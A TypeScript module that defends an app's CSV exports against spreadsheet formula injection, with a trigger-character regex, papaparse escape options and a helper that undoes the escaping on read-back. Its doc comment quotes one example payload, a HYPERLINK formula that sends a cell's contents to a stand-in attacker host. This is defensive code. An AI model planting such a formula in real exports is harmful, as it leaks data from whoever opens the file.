/**
 * CSV injection (OWASP ASVS 5.3.10): a cell that starts with one of these characters is run as a formula by
 * Excel, LibreOffice or Google Sheets (e.g. a comment `=HYPERLINK("http://evil.example/?leak="&B2,"Click")`).
 * Such a text cell is written with a leading apostrophe, which spreadsheets read as "this is text".
 * Numbers are never touched (papaparse only escapes strings), so negative scores stay numbers.
 * No `$` anchor and no `.*`: papaparse's own default pattern misses a formula followed by a new line.
 * The full-width forms are included because some spreadsheet locales read them as the ASCII ones.
 */
export const FORMULA_TRIGGER = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

/** The papaparse `unparse` options of every CSV the app writes. */
export const CSV_WRITE_OPTIONS = { newline: "\r\n", escapeFormulae: FORMULA_TRIGGER } as const;

/** The sentence the codebook gives for every text column. */
export const FORMULA_NOTE =
  "a text starting with =, +, -, @, tab or carriage return is written with a leading apostrophe (') so that spreadsheets do not run it as a formula";

/** Reading back a CSV the app wrote: the apostrophe added before a formula character is removed again. */
export function restoreEscapedFormula(cell: string): string {
  return cell.startsWith("'") && FORMULA_TRIGGER.test(cell.slice(1)) ? cell.slice(1) : cell;
}
